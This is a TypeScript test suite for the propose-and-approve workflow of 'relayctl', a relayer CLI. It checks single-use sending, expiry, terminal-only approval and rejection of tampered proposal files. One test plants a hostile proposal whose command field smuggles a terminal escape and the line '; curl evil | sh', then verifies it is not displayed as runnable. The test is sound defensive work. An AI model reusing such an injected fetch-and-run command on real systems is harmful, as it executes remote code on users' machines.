import { stripVTControlCharacters } from "node:util";
import type { App } from "../../../src/app.ts";
import { type Transport, TransportFailure } from "../../../src/client/transport/transport.ts";
import { parseJson } from "../../../src/contract/json.ts";
import {
  cli,
  ends,
  exited,
  exitedSaying,
  exits,
  runHere,
  SERVER,
  says,
  TOKEN,
  testApp,
  type World,
} from "../../helpers/cli.ts";
import { manualClock } from "../../helpers/manual-clock.ts";
import { memoryJournal } from "../../helpers/memory/journal.ts";
import { demoStore } from "../../helpers/seed-state.ts";
import { refusal } from "../../helpers/service/reply.ts";
import { testServer } from "../../helpers/service/test-server.ts";

const SEND = "tx send eth-main-1 --to 0x70997970c51812dc3a010c7d01b50e0d17dc79c8 --value 1gwei --speed fast";

/** What two people on one machine share. */
function shared(context: object = {}) {
  const never = new AbortController().signal;
  const clock = manualClock(undefined, never);
  const world: World & { files: Record<string, string>; created: Map<string, string> } = {
    ...{ store: demoStore(), proposals: new Map(), journal: memoryJournal(), clock },
    ...{ env: {}, files: { "key.txt": "0123456789abcdef0123456789abcdef" }, created: new Map() },
    config: { version: 1, current: "prod", contexts: { prod: { server: SERVER, token: TOKEN, ...context } } },
  };
  const propose = async (line = SEND, flags = "") => {
    const ran = await ends({ exitCode: 0, writes: [] }, `propose ${flags} -- ${line}`, world);
    return ran.stdout.trim();
  };
  const approve = async (id: string, answers: World["answers"] = [true], more: Partial<World> = {}) =>
    await cli(`approve ${id}`, { ...world, terminal: true, stdoutTerminal: false, answers, ...more });
  const pass = async (milliseconds: number) => await clock.sleep(milliseconds, never);
  return { world, pass, propose, approve };
}

/** The embedded server, of which no response to a write arrives. */
function lossy({ store = demoStore() }: World, seen?: () => void): { transport: Transport } {
  const server = testServer({ store });
  const transport: Transport = async (request) => {
    if (request.method === "GET") return await server(request);
    seen?.();
    throw new TransportFailure("reset", "the connection was reset", { sent: true });
  };
  return { transport };
}

describe("propose", () => {
  test("prints the ID alone, shows the request, and sends nothing", async () => {
    const { world } = shared();
    const ran = await exits(0, `propose -- ${SEND}`, world);
    expect(ran.stdout).toMatch(/^[0-9a-f]{8}\n$/);
    expect(ran.writes).toEqual([]);
    expect(ran.stderr).toContain("POST /api/v1/relayers/eth-main-1/transactions");
    expect(ran.stderr).toContain(`proposed as: relayctl ${SEND}`);
    expect(ran.stderr).toContain(`to send it: relayctl approve ${ran.stdout.trim()}`);
  });

  test("prints the command that approves it with all that reaches the service, and it does", async () => {
    const { world } = shared();
    const files = { ...world.files, tok: TOKEN };
    const alone: World = { ...world, files, config: { version: 1, contexts: {} } };
    const ran = await exits(0, `--server ${SERVER} --token-file tok propose -- ${SEND}`, alone);
    const line = `--server ${SERVER} --token-file tok approve ${ran.stdout.trim()}`;
    expect(ran.stderr).toContain(`to send it: relayctl ${line}\n`);
    expect((await cli(line, { ...alone, terminal: true, stdoutTerminal: false, answers: [true] })).exitCode).toBe(0);
  });

  test.each(["1ms", "59s", "25h"])("refuses to be valid for %s", async (time) => {
    const ran = await exits(2, `propose --valid-for ${time} -- relayers pause eth-main-1`);
    expect(ran.stderr).toContain(`--valid-for ${time}: must be from 1m to 24h`);
  });

  test("refuses a read, a command without a request, several requests, a secret, and itself", async () => {
    const { world } = shared();
    const why = async (line: string) => {
      const ran = await ends({ writes: [], stdout: "" }, `propose -- ${line}`, world);
      return [ran.exitCode, ran.stderr] as const;
    };
    expect(await why("api GET /relayers")).toEqual([2, expect.stringContaining("only reads")]);
    expect(await why("version")).toEqual([2, expect.stringContaining("--dry-run")]);
    expect(await why("relayers pause eth-main-1 bsc-hot")).toEqual([2, expect.stringContaining("one by one")]);
    Object.assign(world.config?.contexts ?? {}, { eu: { server: SERVER, token: TOKEN } });
    const once = expect.stringMatching(/^error: 1 of 2 contexts failed\n {2}\w+: [^;]*; propose them one by one\n$/);
    expect(await why("relayers pause eth-main-1 -c eu,prod")).toEqual([2, once]);
    expect(await why("api POST /notifications -F id=a -F signing_key=@key.txt")).toEqual([
      2,
      expect.stringContaining("sends a secret"),
    ]);
    expect(await why("propose -- version")).toEqual([2, expect.stringContaining("cannot be proposed")]);
    expect(await why("relayers update missing-one --name a --diff")).toEqual([
      5,
      expect.stringContaining("missing-one"),
    ]);
    expect(world.proposals?.size).toBe(0);
  });

  test("sends nothing for a line with its own --, and keeps its flags before it", async () => {
    const { propose, world } = shared();
    const id = await propose("relayers pause -- eth-main-1");
    expect(world.proposals?.get(`${id}.json`)).toContain('"target": "/api/v1/relayers/eth-main-1"');
    await exits(2, "propose -- context delete -- prod", { ...world, terminal: true, answers: [true] });
    expect(Object.keys(world.config?.contexts ?? {})).toEqual(["prod"]);
  });

  test("refuses --once, which would be lost: a proposal is sent at most once by its own ID", async () => {
    const { world } = shared();
    const ran = await ends({ exitCode: 2, stdout: "", requests: [] }, `propose -- ${SEND} --once payout-1`, world);
    expect(ran.stderr).toContain("--once: cannot be proposed");
  });

  test("is what a refused write in read-only mode suggests, with the place of the mode", async () => {
    const { world } = shared({ read_only: true });
    const pause = "relayers pause eth-main-1";
    const inContext = await ends({ exitCode: 3, requests: [] }, `-c prod ${pause} --yes`, world);
    expect(inContext.stderr).toContain("(context prod)");
    expect(inContext.stderr).toContain(`hint: relayctl propose -- -c prod ${pause}\n`);
    const byVariable = await cli(`${SEND} -o json`, { ...world, env: { RELAYCTL_READONLY: "1" } });
    expect(JSON.parse(byVariable.stderr).error.hint).toBe(`relayctl propose -- ${SEND} -o json`);
    for (const line of ["approve 00000000", "apply -f x.json", "undo", `-c prod,prod ${pause}`, `-c 'p*' ${pause}`]) {
      const ran = await ends({ exitCode: 3, requests: [] }, line, { ...world, env: { RELAYCTL_READONLY: "1" } });
      expect(ran.stderr).not.toContain("hint:");
    }
    await ends({ exitCode: 0, writes: [] }, `propose -- -c prod ${pause}`, world);
  });

  test("of a context that is named demo is sent there, whichever context is in use", async () => {
    const { world, propose } = shared();
    const { prod } = world.config?.contexts ?? {};
    if (prod) world.config = { version: 1, current: "prod", contexts: { prod, demo: prod } };
    const id = await propose("-c demo relayers pause eth-main-1");
    const approving = { ...world, terminal: true, stdoutTerminal: false, answers: [true] };
    const ran = await exited({ exitCode: 0, writes: [{ method: "PATCH" }] }, cli(`approve ${id}`, approving));
    expect(stripVTControlCharacters(ran.stderr)).toContain("in demo: PATCH");
    expect((await exited(6, cli(`approve ${id}`, approving))).stderr).toContain("relayctl -c demo history list");
  });

  test("shows the proposed command as it was typed, with the context of the proposal", async () => {
    const { world } = shared();
    const inContext = await cli(`-c prod propose -- ${SEND}`, world);
    expect(inContext.stderr).toContain(`proposed as: relayctl ${SEND} -c prod\n`);
  });

  test("is allowed in read-only mode", async () => {
    const { world } = shared();
    await exits(0, `propose -- ${SEND}`, { ...world, env: { RELAYCTL_READONLY: "1" } });
  });
});

describe("approve", () => {
  test("sends exactly the proposed bytes once, and records who proposed and who approved", async () => {
    const { propose, approve, world } = shared();
    const id = await propose();
    const stored = parseJson(world.proposals?.get(`${id}.json`) ?? "") as { proposal: { body: string } };
    const ran = await exited(0, approve(id));
    expect(ran.writes.map(({ method, target, body }) => [method, target, body])).toEqual([
      ["POST", "/api/v1/relayers/eth-main-1/transactions", stored.proposal.body],
    ]);
    expect(ran.stderr).toContain(`sent proposal ${id} of ada in prod`);
    const [intent] = world.journal?.entries ?? [];
    expect(intent).toMatchObject({ type: "intent", proposal: { id, user: "ada", approved: ["ada"] } });
    const again = await exited({ exitCode: 6, writes: [] }, approve(id));
    expect(again.stderr).toMatch(/already used.*\n {2}hint: relayctl -c prod history list\n/);
  });

  test("shows on a terminal the response to a payment, which has its ID, and of a change only the receipt", async () => {
    const { propose, approve } = shared();
    const onScreen = async (line?: string) =>
      await exited(0, approve(await propose(line), [true], { stdoutTerminal: true }));
    expect((await onScreen("relayers update eth-main-1 --name vault")).stdout).toBe("");
    expect((await onScreen()).stdout).toContain('"id"');
  });

  test("suggests the list of proposals if neither an ID nor a file has that name", async () => {
    const { approve } = shared();
    await exitedSaying({ exitCode: 2, requests: [] }, approve("dd52"), "\n  hint: relayctl proposals list\n");
  });

  test.each(["--yes", "--confirm prod", "--no-input"])("refuses %s, which a program could type", async (flag) => {
    const { propose, world } = shared();
    const id = await propose();
    await ends({ exitCode: 3, requests: [] }, `approve ${id} ${flag}`, { ...world, terminal: true });
  });

  test("refuses without a terminal, and keeps the proposal open", async () => {
    const { propose, approve, world } = shared();
    const id = await propose();
    await says({ exitCode: 3, writes: [] }, `approve ${id}`, "somebody on a terminal", world);
    expect((await approve(id, [false])).exitCode).toBe(3);
    expect((await approve(id)).exitCode).toBe(0);
  });

  test("refuses in read-only mode", async () => {
    const { propose, approve } = shared();
    await exited({ exitCode: 3, writes: [] }, approve(await propose(), [], { env: { RELAYCTL_READONLY: "1" } }));
    const readOnly = shared({ read_only: true });
    await exited({ exitCode: 3, writes: [] }, readOnly.approve(await readOnly.propose(), []));
  });

  test.each(["CI", "RELAYCTL_NO_INPUT"])("refuses with %s set", async (name) => {
    const { propose, approve } = shared();
    expect(await approve(await propose(), [], { env: { [name]: "1" } })).toMatchObject({ exitCode: 3, writes: [] });
  });

  test("refuses what expired, was used, or was changed while the question was open", async () => {
    const meanwhile: ((all: ReturnType<typeof shared>, id: string, app: App) => unknown)[] = [
      ({ pass }) => pass(600_000),
      ({ approve }, id) => approve(id),
      ({ world }) => cli("relayers update eth-main-1 --name treasury", world),
      (_, __, { config }) =>
        config.change((all) => ({ ...all, contexts: { prod: { server: SERVER, token: TOKEN, protected: true } } })),
    ];
    for (const act of meanwhile) {
      const all = shared();
      const id = await all.propose("relayers update eth-main-1 --name vault");
      const made = testApp({ ...all.world, terminal: true, stdoutTerminal: false });
      const { app, requests } = made;
      const prompts = { ...(await app.prompts({})), confirm: async () => [await act(all, id, app)].length === 1 };
      await exited(6, runHere({ ...made, app: { ...app, prompts: async () => prompts } }, ["approve", id]));
      expect(requests.filter(({ method }) => method !== "GET")).toEqual([]);
    }
  });

  test("needs no config file for a server without a context", async () => {
    const { world, propose } = shared();
    world.env = { RELAYCTL_SERVER: SERVER, RELAYCTL_TOKEN: TOKEN };
    const id = await propose();
    const made = testApp({ ...world, terminal: true, stdoutTerminal: false, answers: [true] });
    const config = { ...made.app.config, read: () => Promise.reject(new Error("there is no home folder")) };
    await exited(0, runHere({ ...made, app: { ...made.app, config } }, ["approve", id]));
  });

  test("sends nothing again after a lost response, and says that the outcome is unknown", async () => {
    const { propose, approve, world } = shared();
    const id = await propose();
    const { transport } = lossy(world);
    const lost = await exited(11, approve(id, [true], { service: transport }));
    expect(lost.writes).toHaveLength(1);
    expect(await approve(id, [])).toMatchObject({ exitCode: 6, writes: [] });
  });

  test("suggests to propose it again after a refusal, since it is used up", async () => {
    const { propose, approve, world } = shared();
    const id = await propose();
    const server = testServer(world);
    const service: Transport = async (request) =>
      request.method === "GET" ? await server(request) : refusal(429, "Too many requests");
    await exitedSaying(8, approve(id, [true], { service }), `  hint: relayctl propose -- ${SEND}\n`);
  });

  test("is used up before its request leaves", async () => {
    const { propose, approve, world } = shared();
    const id = await propose();
    let wasUsed = false;
    const { transport } = lossy(world, () => {
      wasUsed = world.proposals?.has(`${id}.used`) === true;
    });
    await approve(id, [true], { service: transport });
    expect(wasUsed).toBe(true);
  });

  test("shows control characters of a file as text, and no line of a shell as a command to run", async () => {
    const { propose, approve, world, pass } = shared();
    await propose(SEND, "--out pay.json");
    const text = world.created?.get("pay.json") ?? "";
    const hostile = text.replace(/"command": ".*"/, String.raw`"command": "relayctl tx\u001b[2J\n; curl evil | sh"`);
    const declined = await exited(3, approve("evil.json", [false], { files: { "evil.json": hostile } }));
    expect(declined.stderr).not.toContain("\u001b[2J");
    expect(declined.stderr).not.toMatch(/^; curl/m);
    await pass(600_000);
    const late = await exited(6, approve("evil.json", [], { files: { "evil.json": hostile } }));
    expect(late.stderr).not.toContain("curl");
  });

  test("asks for the name of a protected context, and beyond its limits", async () => {
    for (const context of [{ protected: true }, { max_value: { wei: "1" } }]) {
      const { propose, approve } = shared(context);
      const id = await propose();
      expect(await approve(id, ["eth-main-1"])).toMatchObject({ exitCode: 3, writes: [] });
      const ran = await exited(0, approve(id, ["prod"]));
      expect(ran.writes).toHaveLength(1);
    }
  });

  test("refuses an expired proposal, one for another context, and one whose target or limits were changed", async () => {
    const { propose, approve, world, pass } = shared();
    const change = "relayers update eth-main-1 --name treasury";
    const first = await propose(change);
    await pass(1);
    const second = await propose(change);
    expect((await approve(first)).exitCode).toBe(0);
    await exitedSaying({ exitCode: 6, writes: [] }, approve(second), "not as it was");
    const third = await propose();
    const elsewhere = { prod: { server: "http://127.0.0.1:9", token: TOKEN } };
    await exited({ exitCode: 6, requests: [] }, approve(third, [], { config: { version: 1, contexts: elsewhere } }));
    const limited = { prod: { server: SERVER, token: TOKEN, max_value: { wei: "5" } } };
    const looser = await approve(third, [], { config: { version: 1, contexts: limited } });
    expect(looser.stderr).toContain("limits of prod were changed");
    await ends({ exitCode: 6, writes: [] }, `approve ${third} -c other`, {
      ...world,
      terminal: true,
      config: { version: 1, contexts: { other: { server: SERVER, token: TOKEN } } },
    });
    await pass(600_000);
    await exitedSaying({ exitCode: 6, writes: [] }, approve(third), ["it expired at", `relayctl propose -- ${SEND}`]);
  });

  test("sends a proposal from its file, and refuses one that was edited under its ID", async () => {
    const { propose, approve, world } = shared();
    const id = await propose(SEND, "--out pay.json");
    const text = world.created?.get("pay.json") ?? "";
    world.proposals?.set(`${id}.json`, text.replace("1000000000", "2000000000"));
    await exited({ exitCode: 3, requests: [] }, approve(id, []));
    await exitedSaying(0, approve("pay.json"), ["approve it in one place only"]);
    expect((await approve("pay.json")).stderr).toContain("already used");
  });

  test("sends an amount or a memo that the real service spells otherwise, in one of the two proposed spellings", async () => {
    const large = "relayers update eth-main-1 --policy min_balance=20eth";
    for (const rejects of [false, true]) {
      const { propose, approve, world } = shared();
      const id = await propose(large);
      const { proposal } = JSON.parse(world.proposals?.get(`${id}.json`) ?? "");
      expect(proposal).toMatchObject({
        body: '{"policies":{"min_balance":20000000000000000000}}',
        respelled: '{"policies":{"min_balance":"20000000000000000000"}}',
      });
      const server = testServer({ store: world.store ?? demoStore() });
      const service: Transport = async (request) =>
        rejects && request.body === proposal.body
          ? { status: 400, headers: {}, body: new TextEncoder().encode('{"success":false,"data":null,"error":"u128"}') }
          : await server(request);
      const ran = await approve(id, [true], { service });
      expect(ran.stderr).toContain(`or, if the service rejects that spelling: ${proposal.respelled}`);
      const sent = ran.writes.map(({ body }) => body);
      expect(sent, ran.stderr).toEqual(rejects ? [proposal.body, proposal.respelled] : [proposal.body]);
    }
  });

  test("refuses a file whose second spelling is another request", async () => {
    const { propose, approve, world } = shared();
    await propose("relayers update eth-main-1 --policy min_balance=20eth", "--out cap.json");
    const text = world.created?.get("cap.json") ?? "";
    const edits = [text.replace('\\"20000000000000000000\\"', '\\"1\\"'), text.replace(/ *"respelled": .*\n/, "")];
    for (const edited of edits) {
      expect(edited).not.toBe(text);
      const ran = await approve("edited.json", [false], { files: { "edited.json": edited } });
      expect([ran.exitCode, ran.writes.length], ran.stderr).toEqual([edited === edits[0] ? 6 : 3, 0]);
    }
  });

  test("refuses a file that was edited so that it could not be shown, kept, or sent as it is", async () => {
    const { propose, approve, world } = shared();
    await propose(SEND, "--out pay.json");
    const text = world.created?.get("pay.json") ?? "";
    const edits: Record<string, [number, string | undefined]> = {
      'body="{"': [2, "not a proposal"],
      [`body=${JSON.stringify("[".repeat(100_000))}`]: [2, "not a proposal"],
      'target="//"': [2, "not a proposal"],
      'target="/api/v1/relayers/../signers"': [6, "byte for byte"],
      'target="/api/v1/relayers/eth-main-1/transactions?a=1&a=2"': [6, "byte for byte"],
      'method="GET"': [6, "it only reads"],
      'expires="2999-01-01T00:00:00Z"': [6, "more than a day"],
      'expires="2026-13-45T99:99:00Z"': [6, "it expired"],
      'time="2026-11-21T03:18:00Z"': [6, "in the future"],
      'context="prod,prod"': [2, "not the name of one context"],
      'context="demo"': [5, 'unknown context "demo"'],
      "seen=undefined": [6, "not as it was"],
      'limits="{"': [6, "limits of prod were changed"],
      "version=2": [2, "not a proposal"],
    };
    for (const [edit, [exitCode, words]] of Object.entries(edits)) {
      const [, name = "", value = ""] = /^(\w+)=(.*)$/s.exec(edit) ?? [];
      const { proposal } = JSON.parse(text);
      proposal[name] = value === "undefined" ? undefined : JSON.parse(value);
      const files = { "edited.json": JSON.stringify({ proposal, signatures: [] }) };
      const ran = await approve("edited.json", [], { files });
      expect([edit, ran.exitCode, ran.writes, ran.questions], ran.stderr).toEqual([edit, exitCode, [], []]);
      expect(ran.stderr).toContain(words);
    }
  });

  test("does not live longer if the time of the machine is set back while the question is open", async () => {
    const { propose, world } = shared();
    const id = await propose();
    const { clock } = world;
    if (!clock) throw new Error("no clock");
    let elapsed = 0;
    const setBack = { ...clock, elapsed: () => elapsed, now: () => clock.now() - elapsed / 2 };
    const made = testApp({ ...world, clock: setBack, terminal: true, stdoutTerminal: false });
    const confirm = async () => {
      elapsed = 600_000;
      return true;
    };
    const prompts = async () => ({ ...(await made.app.prompts({})), confirm });
    const ran = await runHere({ ...made, app: { ...made.app, prompts } }, ["approve", id]);
    const writes = made.requests.filter(({ method }) => method !== "GET");
    expect([ran.exitCode, writes], ran.stderr).toEqual([6, []]);
    expect(ran.stderr).toContain("it expired at");
  });

  test("sends at most once if the process is killed at any step, and then approves again or says that it is used", async () => {
    const outcomes = new Set<string>();
    for (let step = 1; ; step++) {
      const { world, propose, approve } = shared();
      const id = await propose();
      const sent: string[] = [];
      const made = testApp({ ...world, terminal: true, stdoutTerminal: false, answers: [true] });
      let left = step;
      let kill: (outcome: "killed") => void = () => {};
      const killed = new Promise<"killed">((resolve) => {
        kill = resolve;
      });
      // A killed process does nothing more: the call never returns.
      const dying =
        <A extends unknown[], R>(call: (...given: A) => Promise<R>, note?: (...given: A) => void) =>
        async (...given: A): Promise<R> => {
          const die = async () => {
            if (--left > 0) return;
            kill("killed");
            await new Promise(() => {});
          };
          await die();
          note?.(...given);
          const result = await call(...given);
          await die();
          return result;
        };
      const files: (typeof made.app)["proposalFile"] = (name) => {
        const { path, load, change } = made.app.proposalFile(name);
        return { path, load: dying(load), change: dying(change) };
      };
      const network: (typeof made.app)["network"] = async (options) => {
        const transport = await made.app.network(options);
        return dying(transport, ({ method }) => method !== "GET" && sent.push(method));
      };
      const run = runHere({ ...made, app: { ...made.app, proposalFile: files, network } }, ["approve", id]);
      const first = await Promise.race([run, killed]);
      const again = await approve(id, [true]);
      expect(sent.length + again.writes.length, `step ${step}`).toBeLessThanOrEqual(1);
      expect([0, 6], again.stderr).toContain(again.exitCode);
      if (again.exitCode === 0) expect(again.writes).toHaveLength(1);
      outcomes.add(`${first === "killed" ? "killed" : "ended"} ${sent.length} ${again.exitCode}`);
      if (first !== "killed") break;
    }
    // Killed before it was used up; between that and the request; after the request; not at all.
    expect([...outcomes].sort()).toEqual(["ended 1 6", "killed 0 0", "killed 0 6", "killed 1 6"]);
  });

  test("refuses an unknown ID and a file that is not a proposal", async () => {
    const { approve } = shared();
    expect((await approve("00000000", [])).exitCode).toBe(5);
    await exitedSaying(2, approve("other.json", [], { files: { "other.json": '{"proposal":{}}' } }), "not a proposal");
  });
});

test("proposals list warns about a damaged file, and lists the others", async () => {
  const { propose, world } = shared();
  const id = await propose();
  world.proposals?.set("00000000.json", "{}");
  const ran = await cli("proposals list -o json --fields id", world);
  expect(ran.stderr).toContain("warning: proposal 00000000: is not a proposal of relayctl");
  expect(JSON.parse(ran.stdout)).toMatchObject([{ id }]);
});

test("proposals list shows what is open, used, and expired", async () => {
  const { propose, approve, world, pass } = shared();
  const used = await propose();
  await approve(used);
  await pass(300_000);
  const open = await propose("relayers resume bsc-hot");
  await pass(310_000);
  const ran = await cli("proposals list --no-headers --fields id,state,approved_by -o json", world);
  expect(JSON.parse(ran.stdout)).toEqual([
    { id: open, state: "open", approved_by: [] },
    { id: used, state: "used", approved_by: ["ada"] },
  ]);
  const { stdout } = await cli("proposals list", { ...world, terminal: true, columns: 60 });
  const rows = stripVTControlCharacters(stdout).split("\n");
  expect(rows.slice(2, 4)).toEqual([
    `${open}  open   prod     ada  2026-11-21T03:27:07.000Z`,
    "  relayctl relayers resume bsc-hot",
  ]);
});
